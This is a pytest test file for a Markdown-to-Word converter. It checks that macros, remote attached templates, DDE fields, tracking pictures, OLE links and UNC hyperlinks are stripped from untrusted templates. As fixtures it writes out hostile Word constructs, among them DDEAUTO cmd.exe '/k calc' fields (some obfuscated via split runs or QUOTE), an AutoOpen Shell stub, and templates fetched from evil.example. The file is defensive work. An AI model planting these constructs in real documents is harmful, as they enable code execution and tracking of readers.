"""Untrusted templates: what Word would run or fetch never reaches a document written with one.

Each test builds its bad template from python-docx's default document (a header with a
picture, a footer), renders into it, validates the output and opens its zip: the dropped
parts, their relationships, their content types and every r:id that named them are gone.
"""

from __future__ import annotations

import io
import re
import zipfile

import docx
import pytest
from lxml import etree

from outline2docx import parse
from outline2docx.errors import InputError
from outline2docx.render.package import render_docx
from outline2docx.render.template import load_template
from outline2docx.style import load_style

from ..cli import run
from ..conftest import SAMPLES, assert_valid_docx
from ..images import png
from ..languages import CHINESE_LOCALE, chinese
from ..packages import zipped

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W = f"{{{W_NS}}}"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "{http://schemas.openxmlformats.org/package/2006/relationships}"
CT = "{http://schemas.openxmlformats.org/package/2006/content-types}"
RELTYPE = f"{R_NS}/"
MS_RELTYPE = "http://schemas.microsoft.com/office/2006/relationships/"
NAMESPACES = (
    f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"'
)
HEADER_TEXT, FOOTER_TEXT = "某某市人民政府办公室", "内部资料 注意保存"


class Parts(dict):
    """A template's parts by name, with the edits a bad template needs."""

    def relate(self, source: str, rel_id: str, kind: str, target: str, external: bool) -> None:
        """Add relationship ``rel_id`` to ``source``'s .rels part."""
        folder, base = source.rsplit("/", 1) if "/" in source else ("", source)
        name = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
        mode = ' TargetMode="External"' if external else ""
        rels = self.get(
            name, b'<Relationships xmlns="' + REL[1:-1].encode() + b'"></Relationships>'
        )
        added = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'
        self[name] = rels.replace(b"</Relationships>", added.encode() + b"</Relationships>")

    def typed(self, name: str, content_type: str) -> None:
        """Give part ``name`` (or extension ``*.ext``) a content type."""
        if name.startswith("*."):
            entry = f'<Default Extension="{name[2:]}" ContentType="{content_type}"/>'
        else:
            entry = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
        types = self["[Content_Types].xml"]
        self["[Content_Types].xml"] = types.replace(b"</Types>", entry.encode() + b"</Types>")

    def append_to(self, part: str, xml: str) -> None:
        """Add ``xml`` (paragraphs or other block content) at the end of part ``part``."""
        root = etree.fromstring(self[part])
        wrapper = etree.fromstring(f"<w:wrap {NAMESPACES}>{xml}</w:wrap>")
        root.extend(list(wrapper))
        self[part] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")

    def save(self, path):
        path.write_bytes(zipped(self))
        return path


def plain_template() -> Parts:
    """python-docx's default document with a letterhead (text and a picture) and a footer."""
    word = docx.Document()
    section = word.sections[0]
    section.header.paragraphs[0].text = HEADER_TEXT
    section.header.paragraphs[0].add_run().add_picture(io.BytesIO(png(20, 20)))
    section.footer.paragraphs[0].text = FOOTER_TEXT
    out = io.BytesIO()
    word.save(out)
    with zipfile.ZipFile(out) as package:
        return Parts({name: package.read(name) for name in package.namelist()})


def with_macros(parts: Parts) -> Parts:
    """A .docm's macros: a VBA project, its data, a ribbon, and the macro-enabled main type."""
    parts["word/vbaProject.bin"] = b'\xd0\xcf\x11\xe0 Sub AutoOpen(): Shell "calc": End Sub'
    parts["word/vbaData.xml"] = (
        b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    )
    parts["customUI/customUI.xml"] = (
        b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Go"/>'
    )
    parts.relate("word/document.xml", "rIdVba", MS_RELTYPE + "vbaProject", "vbaProject.bin", False)
    parts.relate("word/vbaProject.bin", "rId1", MS_RELTYPE + "wordVbaData", "vbaData.xml", False)
    parts.relate("", "rIdUi", MS_RELTYPE + "ui/extensibility", "customUI/customUI.xml", False)
    parts.typed("*.bin", "application/vnd.ms-office.vbaProject")
    parts.typed("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(
        b"wordprocessingml.document.main+xml", b"BAD"
    ).replace(
        b'ContentType="application/vnd.openxmlformats-officedocument.BAD"',
        b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"',
    )
    assert b"macroEnabled" in parts["[Content_Types].xml"]
    return parts


def with_attached_template(parts: Parts, target: str) -> Parts:
    """settings.xml attaches a template fetched from ``target`` whenever the file opens."""
    settings = etree.fromstring(parts["word/settings.xml"])
    attached = etree.Element(f"{W}attachedTemplate")
    attached.set(f"{{{R_NS}}}id", "rIdTpl")
    settings.insert(1, attached)
    merge = etree.fromstring(
        f'<w:mailMerge {NAMESPACES}><w:mainDocumentType w:val="formLetters"/>'
        '<w:linkToQuery/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=MSDASQL;Data Source=\\\\evil\\db"/>'
        '<w:query w:val="SELECT * FROM users"/></w:mailMerge>'
    )
    settings.insert(2, merge)
    parts["word/settings.xml"] = etree.tostring(settings, xml_declaration=True, encoding="UTF-8")
    parts.relate("word/settings.xml", "rIdTpl", RELTYPE + "attachedTemplate", target, True)
    web = etree.fromstring(parts["word/webSettings.xml"])
    frames = etree.fromstring(
        f'<w:frameset {NAMESPACES}><w:frame><w:name w:val="f"/>'
        '<w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset>'
    )
    web.insert(0, frames)
    parts["word/webSettings.xml"] = etree.tostring(web, xml_declaration=True, encoding="UTF-8")
    parts.relate("word/webSettings.xml", "rIdFrame", RELTYPE + "frame", target + ".htm", True)
    return parts


def with_fetching_content(parts: Parts) -> Parts:
    """A tracking picture, an altChunk, a linked OLE object, DDE and INCLUDEPICTURE fields and
    two hyperlinks (one to the web, one to a network share) in the letterhead and footer."""
    rels = parts["word/_rels/header1.xml.rels"]  # the letterhead's picture: now from the web
    parts["word/_rels/header1.xml.rels"] = rels.replace(
        b'Target="media/image1.png"',
        b'Target="http://tracker.example/pixel.png" TargetMode="External"',
    )
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(b"r:embed=", b"r:link=")
    parts.relate("word/header1.xml", "rIdWeb", RELTYPE + "hyperlink", "https://gov.example/", True)
    parts.relate("word/header1.xml", "rIdUnc", RELTYPE + "hyperlink", "\\\\evil\\share\\x", True)
    parts.relate("word/header1.xml", "rIdOle", RELTYPE + "oleObject", "file:///C:/x.xlsx", True)
    parts.relate("word/header1.xml", "rIdChunk", RELTYPE + "aFChunk", "chunk.mht", False)
    parts["word/chunk.mht"] = b'MIME-Version: 1.0\r\n\r\n<img src="http://tracker.example/a">'
    parts.typed("word/chunk.mht", "message/rfc822")
    parts.append_to(
        "word/header1.xml",
        '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>政府网站</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdUnc"><w:r><w:t>共享目录</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="720">'
        '<v:shape id="ole1" style="width:72pt;height:36pt"/>'
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="ole1" DrawAspect="Content"'
        ' r:id="rIdOle" UpdateMode="Always"/></w:object></w:r></w:p>'
        '<w:altChunk r:id="rIdChunk"/>',
    )
    parts.append_to(
        "word/footer1.xml",
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'
        ' "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>页脚结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://tracker.example/f.png&quot; \\d ">'
        "<w:r><w:t>图</w:t></w:r></w:fldSimple></w:p>",
    )
    return parts


def rendered(template, tmp_path) -> dict[str, bytes]:
    """A notice rendered into ``template``, validated; its parts by name."""
    document = parse(SAMPLES / "notice-with-header.txt")
    data = render_docx(document, load_style("gbt9704"), load_template(template))
    out = tmp_path / "out.docx"
    out.write_bytes(data)
    assert_valid_docx(out)
    with zipfile.ZipFile(out) as package:
        return {name: package.read(name) for name in package.namelist()}


def relationships(parts: dict[str, bytes]) -> dict[str, dict[str, etree._Element]]:
    """Every .rels part's relationships by id, keyed by the .rels part's name."""
    return {
        name: {r.get("Id"): r for r in etree.fromstring(data).iter(f"{REL}Relationship")}
        for name, data in parts.items()
        if name.endswith(".rels")
    }


def assert_every_reference_resolves(parts: dict[str, bytes]) -> None:
    """Every r:* attribute in every XML part names a relationship its .rels part holds."""
    rels = relationships(parts)
    for name, data in parts.items():
        if not name.endswith(".xml") or name == "[Content_Types].xml":
            continue
        folder, base = name.rsplit("/", 1) if "/" in name else ("", name)
        held = rels.get(f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels", {})
        for element in etree.fromstring(data).iter():
            for attribute, value in element.attrib.items():
                if attribute.startswith(f"{{{R_NS}}}"):
                    assert value in held, f"{name}: {element.tag} names {value}, not related"


def text_of(data: bytes) -> str:
    return "".join(etree.fromstring(data).itertext())


def test_macros_are_never_carried(tmp_path):
    template = with_macros(plain_template()).save(tmp_path / "macros.docm")
    notices = load_template(template).notices
    assert any("macros" in n and "vbaProject.bin" in n for n in notices), notices
    assert any("ribbon" in n for n in notices), notices
    assert any("macro-enabled document type" in n for n in notices), notices
    assert all(n.startswith(f"{template}: warning: dropped from the template") for n in notices)
    parts = rendered(template, tmp_path)
    for gone in ("word/vbaProject.bin", "word/vbaData.xml", "customUI/customUI.xml"):
        assert gone not in parts
    assert "word/_rels/vbaProject.bin.rels" not in parts
    types = parts["[Content_Types].xml"].decode()
    assert "vba" not in types.lower() and "macroEnabled" not in types
    assert "wordprocessingml.document.main+xml" in types
    every_rel = b"".join(d for n, d in parts.items() if n.endswith(".rels")).decode()
    assert "vba" not in every_rel.lower() and "customUI" not in every_rel
    assert_every_reference_resolves(parts)
    assert HEADER_TEXT in text_of(parts["word/header1.xml"])


def test_a_macro_project_nothing_refers_to_is_dropped_too(tmp_path):
    parts = plain_template()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 stray macros"
    template = parts.save(tmp_path / "stray.docx")
    assert any("macros: word/vbaProject.bin" in n for n in load_template(template).notices)
    assert "word/vbaProject.bin" not in rendered(template, tmp_path)


@pytest.mark.parametrize(
    "target",
    [
        "http://evil.example/normal.dotm",
        "file:///C:/Users/Public/normal.dotm",
        "\\\\fileserver\\templates\\normal.dotm",
    ],
)
def test_an_attached_template_frames_and_mail_merge_are_dropped(tmp_path, target):
    template = with_attached_template(plain_template(), target).save(tmp_path / "attached.docx")
    notices = load_template(template).notices
    assert any("attached template" in n and target in n for n in notices), notices
    assert any("mail-merge" in n for n in notices), notices
    assert any("frames" in n for n in notices), notices
    parts = rendered(template, tmp_path)
    settings = etree.fromstring(parts["word/settings.xml"])
    assert settings.find(f"{W}attachedTemplate") is None
    assert settings.find(f"{W}mailMerge") is None
    assert b"sourceFileName" not in parts["word/webSettings.xml"]
    every_rel = b"".join(d for n, d in parts.items() if n.endswith(".rels")).decode()
    assert "attachedTemplate" not in every_rel and "normal.dotm" not in every_rel
    assert 'TargetMode="External"' not in every_rel
    assert_every_reference_resolves(parts)


def test_what_the_letterhead_would_fetch_or_run_is_dropped(tmp_path):
    template = with_fetching_content(plain_template()).save(tmp_path / "fetching.docx")
    notices = "\n".join(load_template(template).notices)
    for what in ("pictures fetched", "OLE objects", "altChunk", "network shares", "DDE"):
        assert what in notices, notices
    parts = rendered(template, tmp_path)
    header, footer = parts["word/header1.xml"].decode(), parts["word/footer1.xml"].decode()
    every_rel = b"".join(d for n, d in parts.items() if n.endswith(".rels")).decode()
    for gone in ("tracker.example", "evil", "x.xlsx", "chunk.mht", "oleObject", "aFChunk"):
        assert gone not in every_rel and gone not in header and gone not in footer
    assert "word/chunk.mht" not in parts and "mht" not in parts["[Content_Types].xml"].decode()
    assert "OLEObject" not in header and "altChunk" not in header and "r:link" not in header
    assert "DDEAUTO" not in footer and "INCLUDEPICTURE" not in footer
    # what the reader sees stays: the letterhead, both links' text, the fields' last results
    for kept in (HEADER_TEXT, "政府网站", "共享目录"):
        assert kept in text_of(parts["word/header1.xml"])
    for kept in (FOOTER_TEXT, "页脚结果", "图"):
        assert kept in text_of(parts["word/footer1.xml"])
    assert "https://gov.example/" in every_rel  # an ordinary web link is the reader's to follow
    assert_every_reference_resolves(parts)


def test_a_template_a_dropped_part_cannot_leave_is_refused(tmp_path):
    """A chart whose data is on a server: the chart cannot stand without it."""
    parts = plain_template()
    parts.relate("word/header1.xml", "rIdChart", RELTYPE + "chart", "http://evil/c.xml", True)
    parts.append_to(
        "word/header1.xml",
        '<w:p><w:r><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"'
        ' r:id="rIdChart"/></w:r></w:p>',
    )
    template = parts.save(tmp_path / "chart.docx")
    with pytest.raises(InputError, match="template refused") as refused:
        load_template(template)
    assert refused.value.source == str(template)


def test_a_plain_template_loses_nothing(tmp_path):
    template = plain_template().save(tmp_path / "plain.docx")
    loaded = load_template(template)
    assert loaded.notices == ()
    assert set(loaded.parts) == set(plain_template())


def broken(parts: Parts, part: str) -> Parts:
    parts[part] = parts[part][: len(parts[part]) // 2]  # cut off mid-element
    return parts


@pytest.mark.parametrize(
    "part", ["word/footer1.xml", "word/_rels/header1.xml.rels", "[Content_Types].xml"]
)
def test_a_broken_template_part_stops_the_run_once_before_any_input(tmp_path, part):
    template = broken(plain_template(), part).save(tmp_path / "broken.docx")
    inputs = []
    for n in range(3):
        inputs.append(tmp_path / f"in{n}.txt")
        inputs[-1].write_text("关于开展安全检查的通知\n\n各单位：\n\n现将有关事项通知如下。\n")
    out = tmp_path / "out"
    done = run("convert", *map(str, inputs), "-o", str(out), "--reference-doc", str(template))
    assert done.returncode == 2, done.stderr
    assert done.stderr.count(str(template)) == 1, done.stderr
    assert part in done.stderr and "Traceback" not in done.stderr
    assert not list(tmp_path.glob("out/*.docx")) and not out.exists()


def complex_field(*instructions: str, result: str) -> str:
    """A w:fldChar field whose instruction is split over runs (or holds nested fields)."""
    runs = "".join(
        i
        if i.startswith("<")
        else f'<w:r><w:instrText xml:space="preserve">{i}</w:instrText></w:r>'
        for i in instructions
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def test_a_field_hiding_its_name_goes_and_a_page_number_stays(tmp_path):
    """DDE split over runs, or named by a nested QUOTE field, as malicious files write it."""
    parts = plain_template()
    quote = complex_field(" QUOTE 68 68 69 65 85 84 79 ", result="DDEAUTO")
    parts.append_to(
        "word/footer1.xml",
        "<w:p>"
        + complex_field(" PAGE ", result="1")
        + complex_field(" DD", "EAUTO cmd.exe ", result="拆分")
        + complex_field(quote, ' "cmd.exe" "/k calc" ', result="嵌套")
        + "</w:p>",
    )
    template = parts.save(tmp_path / "fields.docx")
    parts = rendered(template, tmp_path)
    footer = etree.fromstring(parts["word/footer1.xml"])
    instructions = "".join(i.text or "" for i in footer.iter(f"{W}instrText"))
    assert "PAGE" in instructions  # an ordinary field is the template's to keep
    assert "EAUTO" not in instructions and "cmd.exe" not in instructions
    assert "QUOTE" in instructions  # the nested field itself fetches nothing
    assert "拆分" in text_of(parts["word/footer1.xml"])
    assert "嵌套" in text_of(parts["word/footer1.xml"])


@pytest.mark.parametrize(
    "main_type",
    [
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    ],
)
def test_a_word_template_file_gives_a_plain_document(tmp_path, main_type):
    """A .dotx or .dotm's main document type would make Word refuse the .docx written."""
    parts = plain_template()
    types = parts["[Content_Types].xml"]
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = types.replace(plain, main_type.encode())
    template = parts.save(tmp_path / "template.dotx")
    notices = "".join(load_template(template).notices)
    assert ("macro-enabled document type" in notices) == ("macro" in main_type)
    types = rendered(template, tmp_path)["[Content_Types].xml"]
    assert plain in types and main_type.encode() not in types


def test_a_carried_part_without_a_content_type_is_refused(tmp_path):
    parts = plain_template()
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = re.sub(rb'<Default Extension="png"[^>]*/>', b"", types)
    assert parts["[Content_Types].xml"] != types
    template = parts.save(tmp_path / "untyped.docx")
    with pytest.raises(InputError, match=r"word/media/image1\.png has no content type"):
        load_template(template)


def test_the_command_warns_once_of_what_was_dropped(tmp_path):
    template = with_macros(plain_template()).save(tmp_path / "macros.docm")
    inputs = [tmp_path / "a.txt", tmp_path / "b.txt"]
    for path in inputs:
        path.write_text("关于开展安全检查的通知\n\n各单位：\n\n现将有关事项通知如下。\n")
    out = tmp_path / "out"
    done = run("convert", *map(str, inputs), "-o", str(out), "--reference-doc", str(template))
    assert done.returncode == 0, done.stderr
    assert done.stderr.count(f"{template}: warning: dropped from the template: macros") == 1
    assert len(list(out.glob("*.docx"))) == 2


# ---- in the user's language ----------------------------------------------------------------


def test_what_was_dropped_is_told_in_chinese(tmp_path):
    template = with_macros(plain_template()).save(tmp_path / "macros.docm")
    with chinese():
        notices = load_template(template).notices
    assert notices == (
        f"{template}：警告：已从模板中删除：功能区自定义（会调用宏）：customUI/customUI.xml",
        f"{template}：警告：已从模板中删除：宏：word/vbaProject.bin、word/vbaData.xml",
        f"{template}：警告：已从模板中删除：启用宏的文档类型（按普通 .docx 写出）：word/document.xml",
    )
    english = load_template(template).notices
    assert english[1] == (
        f"{template}: warning: dropped from the template: macros: "
        "word/vbaProject.bin, word/vbaData.xml"
    )


def test_a_long_list_of_dropped_parts_is_cut_short_in_either_language(tmp_path):
    parts = plain_template()
    for n in range(5):
        parts[f"word/stray{n}.xml"] = b"<x/>"
    template = parts.save(tmp_path / "stray.docx")
    with chinese():
        (notice,) = load_template(template).notices
    assert notice == (
        f"{template}：警告：已从模板中删除：未被引用的部件："
        "word/stray0.xml、word/stray1.xml、word/stray2.xml，另有 2 项"
    )
    (english,) = load_template(template).notices
    assert english.endswith("word/stray0.xml, word/stray1.xml, word/stray2.xml and 2 more")


def test_a_refused_template_is_told_in_chinese_with_the_same_exit_code(tmp_path):
    parts = plain_template()
    parts["[Content_Types].xml"] = re.sub(
        rb'<Default Extension="png"[^>]*/>', b"", parts["[Content_Types].xml"]
    )
    template = parts.save(tmp_path / "untyped.docx")
    draft = tmp_path / "a.txt"
    draft.write_text("关于开展安全检查的通知\n", encoding="utf-8")
    args = ("convert", str(draft), "--reference-doc", str(template))
    chinese_run, english_run = run(*args, env=CHINESE_LOCALE), run(*args)
    assert chinese_run.returncode == english_run.returncode == 2
    assert chinese_run.stderr == (
        f"outline2docx：错误：{template}：部件 word/media/image1.png 没有内容类型：不是 Word 文件\n"
    )
    assert "has no content type: not a Word file" in english_run.stderr
    assert not draft.with_suffix(".docx").exists()


def test_the_command_warns_in_chinese_under_zh_cn(tmp_path):
    template = with_macros(plain_template()).save(tmp_path / "macros.docm")
    draft = tmp_path / "a.txt"
    draft.write_text("关于开展安全检查的通知\n\n各单位：\n\n现将有关事项通知如下。\n")
    done = run("convert", str(draft), "--reference-doc", str(template), env=CHINESE_LOCALE)
    assert done.returncode == 0, done.stderr
    assert f"{template}：警告：已从模板中删除：宏：word/vbaProject.bin" in done.stderr
    assert "dropped" not in done.stderr
